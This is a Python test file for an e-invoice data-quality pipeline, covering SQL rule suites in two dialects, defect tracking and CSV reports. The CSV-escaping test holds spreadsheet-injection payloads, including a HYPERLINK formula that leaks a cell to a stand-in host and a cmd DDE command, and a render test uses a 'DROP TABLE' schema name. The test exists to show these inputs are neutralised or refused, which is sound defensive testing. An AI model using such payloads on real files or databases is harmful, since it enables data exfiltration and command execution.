"""The data-quality suites as files: every rule present, both dialects parse, only keys selected;
and the pure parts of a run (period, per-rule summary, statuses, CSV)."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
import sqlglot
from sqlglot import exp

from flows.invoice_quality import QualityParams, quality_period
from tasks.quality.gx_run import SCOPE_SQL, CheckOutcome, SuiteRun
from tasks.quality.records import SCOPE_ZH, csv_cell, keys_csv, standing_csv, summarise, to_results
from tasks.quality.standing import load_standing, save_standing, track_standing
from tasks.quality.suites import RULE_IDS, SuiteError, load_suites, render, rule_checks
from tasks.core.reason_codes import Code
from tasks.core.results import Status

SUITES = load_suites()
CHECKS = rule_checks(SUITES)
READ = {"postgresql": "postgres", "oracle": "oracle"}
NOW = datetime(2026, 11, 27, 6, 0, 5)


def _sql(check, dialect: str) -> str:
    # what reaches the database: the run's values, then GX's str.format (which undoubles {{n}})
    return render(check.queries[dialect], dialect, "ebill_canon", date(2026, 11, 26), date(2026, 11, 27), NOW).format()


def test_every_rule_has_an_expectation_with_meta():
    assert {c.rule_id for c in CHECKS} == set(RULE_IDS)
    for c in CHECKS:
        assert c.severity in ("error", "warning") and c.title_zh and c.scope in SCOPE_SQL, c
        assert c.standing == (c.check == "DQ21_standing"), c
        assert c.key in (("bill_code", "bill_no"), ("bus_no",), ("bill_code", "start_no")), c
    assert set(SCOPE_ZH) == set(SCOPE_SQL)  # every count is named in Chinese in the report
    assert {n for n in SUITES} == {"ebill_invoice_header", "ebill_invoice_items", "ebill_red_bills",
                                   "ebill_reconciliation", "ebill_stock"}


@pytest.mark.parametrize("dialect", ["postgresql", "oracle"])
def test_every_query_parses_and_selects_only_business_keys(dialect):
    for c in CHECKS:
        sql = _sql(c, dialect)
        assert "${" not in sql and ":" not in sql, (c.check, sql)  # ':' would be a bind parameter to SQLAlchemy
        tree = sqlglot.parse_one(sql, read=READ[dialect])
        assert isinstance(tree, exp.Select), c.check
        # The guarantee that no payer data leaves: the outer SELECT names the key columns only.
        assert [e.alias_or_name.lower() for e in tree.expressions] == list(c.key), (c.check, tree.expressions)
        for col in ("payer_name", "id_card_no", "tel"):
            assert col not in [e.sql().lower() for e in tree.expressions]


def test_oracle_variants_use_oracle_syntax():
    for c in CHECKS:
        ora = _sql(c, "oracle")
        assert "!~" not in ora and "INTERVAL '24 hours'" not in ora and "AS BIGINT" not in ora, c.check
    dq20 = next(c for c in CHECKS if c.rule_id == "DQ20")
    assert "REGEXP_LIKE(i.tel, '^1[0-9]{10}$', 'c')" in _sql(dq20, "oracle")


def test_render_fills_period_and_clock_and_refuses_a_bad_schema():
    dq18 = next(c for c in CHECKS if c.rule_id == "DQ18")
    pg = _sql(dq18, "postgresql")
    assert "DATE '2026-11-26'" in pg and "DATE '2026-11-27'" in pg and "(DATE '2026-11-27' + 21605 * INTERVAL '1 second')" in pg
    assert "NUMTODSINTERVAL(21605, 'SECOND')" in _sql(dq18, "oracle")
    with pytest.raises(SuiteError, match="database.schema"):
        render(dq18.queries["postgresql"], "postgresql", "x; DROP TABLE y", date(2026, 1, 1), date(2026, 1, 2), NOW)


def test_a_broken_suite_file_is_named(tmp_path):
    (tmp_path / "bad.json").write_text('{"name": "x", "expectations": [{"type": "expect_column_values_to_be_null"}]}')
    with pytest.raises(SuiteError, match="bad.json: expectation 0"):
        load_suites(tmp_path)
    (tmp_path / "bad.json").write_text("{")
    with pytest.raises(SuiteError, match="not valid JSON"):
        load_suites(tmp_path)


def _run(found: dict[str, list[tuple]], checked: dict[str, int], error_on: str | None = None) -> SuiteRun:
    outs = [CheckOutcome(c, failing=found.get(c.check, []), error="boom" if c.check == error_on else None) for c in CHECKS]
    return SuiteRun(outs, checked, 0.1)


def test_summary_statuses_and_csv():
    checked = {"invoice": 100, "blue": 98, "red": 2, "item": 500, "settlement": 100, "stock": 5}
    run = _run({"DQ15": [("44010126", "0000000001")], "DQ15_items": [("44010126", "0000000002")],
                "DQ20": [("44010126", "0000000009")], "DQ19_settlements": [("MZ1",)]}, checked, error_on="DQ06")
    by = {s.rule_id: s for s in summarise(run)}
    assert list(by) == list(RULE_IDS)
    assert by["DQ15"].failing == [("44010126", "0000000001"), ("44010126", "0000000002")]  # both halves
    assert by["DQ15"].checked == 600 and by["DQ15"].status is Status.FAIL
    assert by["DQ20"].status is Status.WARN  # a warning rule does not fail the run
    assert by["DQ06"].status is Status.ERROR and by["DQ01"].status is Status.OK
    assert keys_csv(by["DQ19"]) == "bus_no\r\nMZ1\r\n"
    results = to_results("demo", list(by.values()), NOW, NOW, "2026-11-26")
    assert [r.target for r in results] == list(RULE_IDS)
    assert "44010126/0000000001" in results[14].reason
    assert [r.code for r in results if r.target in ("DQ15", "DQ20", "DQ06", "DQ01")] == [
        Code.OK, Code.RULE_ERROR, Code.RULE_VIOLATED, Code.RULE_VIOLATED]  # in RULE_IDS order


def test_empty_period_is_skipped_not_passed():
    run = _run({}, {"invoice": 0, "blue": 0, "red": 0, "item": 0, "settlement": 0, "stock_period": 0, "stock": 5})
    by = {s.rule_id: s.status for s in summarise(run)}
    # DQ21 judges the segments the period's bills used: no bill, no segment judged
    assert set(by.values()) == {Status.SKIPPED}


def test_dq21_judges_the_periods_segments_and_counts_a_standing_defect_once():
    """The stock defect no bill of the day touched does not fail every daily report: the first run
    that sees it counts it, later runs list it with the day it was first seen, until it is gone."""
    checked = {"invoice": 40, "blue": 40, "red": 0, "item": 200, "settlement": 40, "stock_period": 3, "stock": 9}
    old, used = ("44010126", "0000000001"), ("44010126", "0000004001")
    day1 = {s.rule_id: s for s in summarise(_run({"DQ21": [used], "DQ21_standing": [old]}, checked))}
    assert day1["DQ21"].failing == [used] and day1["DQ21"].standing == [old] and day1["DQ21"].checked == 3
    state, rows = track_standing(list(day1.values()), {}, "2026-11-26")
    assert day1["DQ21"].status is Status.FAIL and day1["DQ21"].counted == [used, old]
    assert state == {"DQ21": {"44010126/0000000001": "2026-11-26", "44010126/0000004001": "2026-11-26"}}
    assert [(r["key"], r["state"]) for r in rows] == [("44010126/0000000001", "new")]
    # next day both segments unused and still broken: nothing new, the day's bills are clean -> OK
    day2 = {s.rule_id: s for s in summarise(_run({"DQ21_standing": [old, used]}, checked))}
    state2, rows2 = track_standing(list(day2.values()), state, "2026-11-27")
    assert day2["DQ21"].status is Status.OK and day2["DQ21"].counted == []
    assert state2 == state and {r["state"] for r in rows2} == {"open"}
    [dq21] = to_results("demo", [day2["DQ21"]], NOW, NOW, "2026-11-27")
    assert dq21.status is Status.OK and dq21.value == 0 and "2026-11-26" in dq21.reason
    assert "DQ21_standing.csv" in dq21.reason
    assert standing_csv(day2["DQ21"], "2026-11-27").splitlines() == [
        "bill_code,start_no,open_since", "44010126,0000000001,2026-11-26", "44010126,0000004001,2026-11-26"]
    # the old segment repaired: said once, then forgotten; a run without DQ21 keeps what was known
    day3 = {s.rule_id: s for s in summarise(_run({"DQ21_standing": [used]}, checked))}
    state3, rows3 = track_standing(list(day3.values()), state2, "2026-11-28")
    assert state3 == {"DQ21": {"44010126/0000004001": "2026-11-26"}}
    assert [(r["key"], r["state"]) for r in rows3 if r["state"] == "gone"] == [("44010126/0000000001", "gone")]
    assert track_standing([day3["DQ06"]], state3, "2026-11-29")[0] == state3
    broken = {s.rule_id: s for s in summarise(_run({}, checked, error_on="DQ21_standing"))}
    assert track_standing([broken["DQ21"]], state3, "2026-11-29")[0] == state3  # could not look: keep


def test_standing_state_survives_a_damaged_file(tmp_path):
    path = tmp_path / "state" / "quality_standing.json"
    assert load_standing(path) == {}
    save_standing(path, {"DQ21": {"44010126/0000000001": "2026-11-26"}})
    assert load_standing(path) == {"DQ21": {"44010126/0000000001": "2026-11-26"}}
    assert path.stat().st_mode & 0o777 == 0o600
    path.write_text("{not json")
    assert load_standing(path) == {}  # counted once more rather than lost


def test_failing_key_csvs_cannot_carry_a_spreadsheet_formula():
    """OWASP CSV injection: a key cell starting with = + - @ (or a tab/CR) is quoted with a leading
    single quote so Excel shows it as text; a plain number such as -12.50 stays a number."""
    planted = [("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",), ("+cmd|' /C calc'!A0",), ("-2+3",), ("@SUM(A1)",),
               ("\t=1+1",), ("\r=1",), ("-12.50",), ("+7",), ("MZ0001",)]
    run = _run({"DQ19_settlements": planted}, {"invoice": 1, "settlement": 9})
    dq19 = {s.rule_id: s for s in summarise(run)}["DQ19"]
    cells = [row[0] for row in csv.reader(io.StringIO(keys_csv(dq19)))][1:]
    assert sorted(cells) == sorted(["'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "'+cmd|' /C calc'!A0", "'-2+3",
                                    "'@SUM(A1)", "'\t=1+1", "'\r=1", "-12.50", "+7", "MZ0001"])
    assert csv_cell("=1") == "'=1" and csv_cell("-0.01") == "-0.01" and csv_cell("") == "" and csv_cell(None) == ""


def test_a_day_without_red_bills_is_not_a_skipped_check():
    run = _run({}, {"invoice": 40, "blue": 40, "red": 0, "item": 200, "settlement": 40, "stock": 5})
    summaries = {s.rule_id: s for s in summarise(run)}
    assert summaries["DQ11"].status is Status.OK and summaries["DQ12"].status is Status.OK
    [dq11] = [r for r in to_results("demo", [summaries["DQ11"]], NOW, NOW, "2026-11-26")]
    assert (dq11.status, dq11.code, dq11.value) == (Status.OK, Code.OK, 0)
    assert "无此规则适用的数据（0 张红票）" in dq11.reason  # OK with nothing to judge, said so


def test_parameters_default_to_yesterday_and_name_bad_input():
    assert quality_period(QualityParams(), date(2026, 11, 27)) == (date(2026, 11, 26), date(2026, 11, 27))
    p = QualityParams(start=date(2026, 10, 1), end=date(2026, 10, 31))
    assert quality_period(p, date(2026, 11, 27)) == (date(2026, 10, 1), date(2026, 11, 1))
    for bad, field in (({"rules": ["DQ99"]}, "rules"), ({"end": date(2026, 1, 1)}, "end"),
                       ({"start": date(2026, 2, 1), "end": date(2026, 1, 1)}, "before start")):
        with pytest.raises(ValueError, match=field):
            QualityParams(**bad)


@pytest.mark.parametrize("args, field", [(["--rules", "DQ99"], "rules"), (["--start", "2026-13-01"], "start"),
                                         (["--end", "2026-01-01"], "end is set but start is not")])
def test_the_command_line_names_a_bad_parameter_without_a_traceback(args, field):
    from typer.testing import CliRunner

    from flows.cli import app

    res = CliRunner().invoke(app, ["quality", "demo", *args])
    assert res.exit_code == 2 and field in res.output and "Traceback" not in res.output, res.output
